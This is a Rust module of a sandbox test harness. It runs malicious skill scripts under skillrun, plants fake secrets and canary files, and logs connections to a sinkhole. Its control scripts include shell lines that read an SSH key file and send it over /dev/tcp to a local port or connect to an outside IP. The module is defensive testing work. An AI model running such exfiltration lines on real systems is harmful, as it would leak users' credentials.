//! Runs every script of a folder of malicious skills in the sandbox, in both tiers, and reports which errors each hit and
//! what it obtained.
//!
//! A script is only ever started with `skillrun run`, with limits, in its own directory, and as an ordinary
//! user if root starts the job. Around it are fake secrets and files that must not change ([`sentinels`]), and
//! every connection is recorded ([`sinkhole`]). A script that reaches one of them *got* something, and the job fails.
//!
//! A detector that finds nothing may be broken, so every job first runs its own [`controls`]: scripts with grants
//! that the others lack. A control that gets nothing also fails the job.

mod corpus;
mod sentinels;
mod sinkhole;

pub(crate) use corpus::{Script, scripts};
pub(crate) use sinkhole::Sinkhole;

use sentinels::{Picture, Sentinels};
use serde_json::{Value, json};
use skillrun::Language;
use std::fs;
use std::io::{self, Read};
use std::os::unix::fs::{DirBuilderExt as _, MetadataExt as _};
use std::os::unix::process::{CommandExt as _, ExitStatusExt as _};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::mpsc;
use std::time::Duration;

/// Limits for every run. A harmful script acts at once; one that waits must not delay the job.
const POLICY: &str = "approval = \"never\"\n[limits]\ntime = \"10s\"\nmemory = \"256MiB\"\noutput = \"4MiB\"\n\
                      scratch = \"32MiB\"\ndisk = \"32MiB\"\nopen_files = 128\nprocesses = 24\n";
/// A host that has not ended by then ignores its own time limit.
const HANG_TIMEOUT: Duration = Duration::from_secs(60);
/// Bytes of a skill that are copied; a larger one is a checked-in build tree.
const MAX_SKILL: u64 = 64 << 20;
/// What scripts and interpreters print when something is refused, and what it means for the report.
const MET: [(&str, &str); 16] = [
    ("PermissionError", "permission denied"),
    ("Permission denied", "permission denied"),
    ("EACCES", "permission denied"),
    ("Operation not permitted", "not permitted"),
    ("EPERM", "not permitted"),
    ("Read-only file system", "read-only"),
    ("FileNotFoundError", "no such file"),
    ("No such file", "no such file"),
    ("ENOENT", "no such file"),
    ("Network is unreachable", "no network"),
    ("network", "no network"),
    ("resolve", "no network"),
    ("Name or service not known", "no network"),
    ("ModuleNotFoundError", "no such module"),
    ("Cannot find module", "no such module"),
    ("process", "no processes"),
];

/// The settings of a job.
pub(crate) struct Settings {
    /// The binary that is attacked.
    pub(crate) skillrun: PathBuf,
    /// The cache of compiled interpreters.
    pub(crate) cache: PathBuf,
    /// The user to run as, if root starts the job.
    pub(crate) user: Option<u32>,
}

/// The tier in which a script runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Tier {
    Wasm,
    Native,
}

impl Tier {
    pub(crate) fn word(self) -> &'static str {
        match self {
            Self::Wasm => "wasm",
            Self::Native => "native",
        }
    }

    fn all(language: Language) -> &'static [Self] {
        match language.has_wasm() {
            true => &[Self::Wasm, Self::Native],
            false => &[Self::Native],
        }
    }
}

/// One run and its result.
#[derive(Debug)]
pub(crate) struct Run {
    pub(crate) script: String,
    pub(crate) tier: Tier,
    pub(crate) arguments: Vec<String>,
    /// How the script ended, or why it did not run.
    pub(crate) status: String,
    pub(crate) exit_code: i64,
    /// The refusals that its output shows.
    pub(crate) met: Vec<&'static str>,
    /// The last line of its standard error.
    pub(crate) last: String,
    /// What it got although it must not.
    pub(crate) got: Vec<String>,
}

impl Run {
    /// Whether the script was started at all.
    pub(crate) fn ran(&self) -> bool {
        !matches!(self.status.as_str(), "refused" | "error")
    }

    pub(crate) fn json(&self) -> Value {
        json!({
            "script": self.script, "tier": self.tier.word(), "arguments": self.arguments, "status": self.status,
            "exit_code": self.exit_code, "met": self.met, "stderr": self.last, "got": self.got,
        })
    }
}

/// A control, and what the report must say that it got.
pub(crate) struct Control {
    pub(crate) script: Script,
    pub(crate) tier: Tier,
    /// `{secret}`, `{canary}` and `{port}` are replaced by the actual ones.
    pub(crate) allow: &'static [&'static str],
    pub(crate) gets: &'static str,
}

/// Scripts with grants that no other script has: each must be reported. The last one is for a network where `everywhere`
/// is the sinkhole.
pub(crate) fn controls(everywhere: bool) -> Vec<Control> {
    let control = |name: &str, source: &str, tier, allow, gets| Control {
        script: Script::loose(name, source),
        tier,
        allow,
        gets,
    };
    let mut controls = vec![
        control(
            "prints-a-secret.py",
            "import sys\nprint(open(sys.argv[1]).read())\n",
            Tier::Wasm,
            &["read:{secret}"],
            "`ssh key` in stdout",
        ),
        control(
            "encodes-a-secret.sh",
            "base64 -w0 \"$1\" > copy.txt\n",
            Tier::Native,
            &["read:{secret}"],
            "`ssh key` in its workspace",
        ),
        control(
            "changes-a-file.sh",
            "echo changed > \"$2\"\n",
            Tier::Native,
            &["write:{canary}"],
            "changed `canary/notes.txt`",
        ),
        control(
            "connects.sh",
            "exec 3<>/dev/tcp/127.0.0.1/$3 && cat \"$1\" >&3\n",
            Tier::Native,
            &["net:*", "read:{secret}"],
            "`ssh key` in a connection",
        ),
    ];
    if everywhere {
        controls.push(control(
            "knocks.sh",
            "exec 3<>/dev/tcp/198.51.100.9/7\n",
            Tier::Native,
            &["net:*"],
            "a connection: 1 attempts at a port where nobody listens",
        ));
    }
    controls
}

/// Runs a control; returns what it got, or why that is unknown.
pub(crate) fn run_control(
    settings: &Settings,
    sinkhole: &Sinkhole,
    control: &Control,
) -> io::Result<Run> {
    let scene = Scene::new(settings, &control.script)?;
    let secret = scene.text("home/.ssh/id_rsa");
    let canary = scene.text("canary/notes.txt");
    let port = sinkhole.port().to_string();
    let allow: Vec<String> = control
        .allow
        .iter()
        .map(|grant| {
            grant
                .replace("{secret}", &secret)
                .replace("{canary}", &canary)
        })
        .collect();
    scene.run(control.tier, &allow, &[&secret, &canary, &port], sinkhole)
}

/// Runs a script in every tier and with every list of arguments.
pub(crate) fn run_script(
    settings: &Settings,
    sinkhole: &Sinkhole,
    script: &Script,
    lists: &[&[&str]],
    mut each: impl FnMut(Run),
) -> io::Result<()> {
    for tier in Tier::all(script.language) {
        for arguments in lists {
            let scene = Scene::new(settings, script)?;
            each(scene.run(*tier, &[], arguments, sinkhole)?);
        }
    }
    Ok(())
}

/// One script with everything around it: `home`, `canary`, `project/.env`, `project/work`, `skill`.
struct Scene<'a> {
    settings: &'a Settings,
    script: &'a Script,
    root: tempfile::TempDir,
    sentinels: Sentinels,
    before: Picture,
}

impl<'a> Scene<'a> {
    fn new(settings: &'a Settings, script: &'a Script) -> io::Result<Self> {
        let mut folder = tempfile::Builder::new();
        let root = folder.prefix("skillrun-attack-").tempdir()?;
        let sentinels = Sentinels::plant(root.path())?;
        script.copy_to(&root.path().join("skill"), MAX_SKILL)?;
        for private in ["state", "tmp"] {
            fs::DirBuilder::new()
                .mode(0o700)
                .create(root.path().join(private))?;
        }
        fs::create_dir(root.path().join("policy"))?;
        fs::write(root.path().join("policy/skillrun.toml"), POLICY)?;
        if let Some(user) = settings.user {
            own(root.path(), user)?;
        }
        let before = Picture::of(root.path())?;
        Ok(Self {
            settings,
            script,
            root,
            sentinels,
            before,
        })
    }

    fn text(&self, relative: &str) -> String {
        self.root.path().join(relative).display().to_string()
    }

    fn run(
        &self,
        tier: Tier,
        allow: &[String],
        arguments: &[&str],
        sinkhole: &Sinkhole,
    ) -> io::Result<Run> {
        let _ = sinkhole.take()?;
        let (status, stdout, stderr) =
            wait(self.command(tier, allow, arguments).spawn()?, HANG_TIMEOUT)?;
        let outcome: Value = serde_json::from_slice(&stdout).unwrap_or(Value::Null);
        let ran = outcome["status"].is_string();
        let text = |key: &str| outcome[key].as_str().unwrap_or_default();
        let said = match ran {
            true => text("stderr").to_owned(),
            false => outcome["error"].to_string() + &String::from_utf8_lossy(&stderr),
        };
        let mut run = Run {
            script: self.script.label.clone(),
            tier,
            arguments: arguments.iter().map(|word| (*word).to_owned()).collect(),
            status: match (ran, status.and_then(|status| status.code())) {
                (true, _) => text("status").to_owned(),
                (false, Some(126 | 127)) => "refused".into(),
                (false, _) => "error".into(),
            },
            exit_code: outcome["exit_code"].as_i64().unwrap_or_else(|| {
                let code = status.and_then(|status| status.code());
                code.map_or(-1, i64::from)
            }),
            met: met(&said),
            last: said
                .lines()
                .rev()
                .find(|line| !line.trim().is_empty())
                .map(|line| line.chars().take(200).collect())
                .unwrap_or_default(),
            got: Vec::new(),
        };
        self.got(&mut run, status, ran, &outcome, sinkhole)?;
        Ok(run)
    }

    /// Everything that the script reached although it must not.
    fn got(
        &self,
        run: &mut Run,
        status: Option<ExitStatus>,
        ran: bool,
        outcome: &Value,
        sinkhole: &Sinkhole,
    ) -> io::Result<()> {
        let got = &mut run.got;
        match status {
            None => got.push(format!("the host did not end within {HANG_TIMEOUT:?}")),
            Some(status) if status.signal().is_some() || (!ran && status.code() == Some(101)) => {
                got.push(format!("the host ended with {status}"));
            }
            Some(_) => {}
        }
        for stream in ["stdout", "stderr"] {
            let bytes = outcome[stream].as_str().unwrap_or_default();
            for name in self.sentinels.found_in(bytes.as_bytes()) {
                got.push(format!("`{name}` in {stream}"));
            }
        }
        let work = self.root.path().join("project/work");
        for name in self.sentinels.found_below(&work)? {
            got.push(format!("`{name}` in its workspace"));
        }
        got.extend(self.before.changes(&Picture::of(self.root.path())?));
        for connection in sinkhole.take()? {
            for name in self.sentinels.found_in(&connection.bytes) {
                got.push(format!("`{name}` in a connection"));
            }
            got.push(format!("a connection: {}", connection.what));
        }
        if let Some(user) = self.settings.user {
            let left = processes_of(user);
            if !left.is_empty() {
                got.push(format!("processes are left: {left:?}"));
            }
        }
        Ok(())
    }

    /// The only way in which a script of a corpus is ever started.
    fn command(&self, tier: Tier, allow: &[String], arguments: &[&str]) -> Command {
        let mut command = Command::new(&self.settings.skillrun);
        command
            .arg("run")
            .arg(self.root.path().join("skill"))
            .arg(format!("./{}", self.script.path))
            .arg("--json")
            .arg("--quiet")
            .args(["--runtime", tier.word()])
            .arg("--workspace")
            .arg(self.root.path().join("project/work"))
            .arg("--policy")
            .arg(self.root.path().join("policy/skillrun.toml"));
        let interpreter = self.script.language.interpreter();
        let own = format!("interpreter:{interpreter}");
        let native = (tier == Tier::Native).then_some("native");
        for grant in native
            .into_iter()
            .chain([own.as_str()])
            .chain(allow.iter().map(String::as_str))
        {
            command.args(["--allow", grant]);
        }
        command
            .arg("--")
            .args(arguments)
            .current_dir(self.root.path().join("project"))
            .env_clear()
            .envs(self.sentinels.environment())
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", self.root.path().join("home"))
            .env("XDG_STATE_HOME", self.root.path().join("state"))
            .env("XDG_CACHE_HOME", &self.settings.cache)
            .env("TMPDIR", self.root.path().join("tmp"))
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if let Some(user) = self.settings.user {
            command.uid(user).gid(user);
        }
        command
    }
}

/// The errors that the output of a script shows.
fn met(said: &str) -> Vec<&'static str> {
    let mut met: Vec<&str> = MET
        .iter()
        .filter(|(phrase, _)| said.contains(phrase))
        .map(|(_, meaning)| *meaning)
        .collect();
    met.sort_unstable();
    met.dedup();
    met
}

pub(crate) type End = (Option<ExitStatus>, Vec<u8>, Vec<u8>);

/// Waits for a process and its output; one that does not end in time is killed and has no status.
pub(crate) fn wait(mut child: Child, timeout: Duration) -> io::Result<End> {
    let (done, both) = mpsc::channel();
    let streams: [Option<Box<dyn Read + Send>>; 2] = [
        child.stdout.take().map(|stream| Box::new(stream) as _),
        child.stderr.take().map(|stream| Box::new(stream) as _),
    ];
    let readers = streams.map(|stream| {
        let done = done.clone();
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            if let Some(mut stream) = stream {
                let _ = stream.read_to_end(&mut bytes);
            }
            let _ = done.send(());
            bytes
        })
    });
    let ended = (0..2).all(|_| both.recv_timeout(timeout).is_ok());
    if !ended {
        child.kill()?;
    }
    let status = child.wait()?;
    let [stdout, stderr] = readers.map(|reader| reader.join().unwrap_or_default());
    Ok((ended.then_some(status), stdout, stderr))
}

/// The processes of a user, by id.
fn processes_of(user: u32) -> Vec<String> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries
        .filter(|entry| entry.metadata().is_ok_and(|meta| meta.uid() == user))
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
        .collect()
}

/// Changes the owner of a tree.
pub(crate) fn own(path: &Path, user: u32) -> io::Result<()> {
    std::os::unix::fs::lchown(path, Some(user), Some(user))?;
    if path.symlink_metadata()?.is_dir() {
        for entry in fs::read_dir(path)? {
            own(&entry?.path(), user)?;
        }
    }
    Ok(())
}
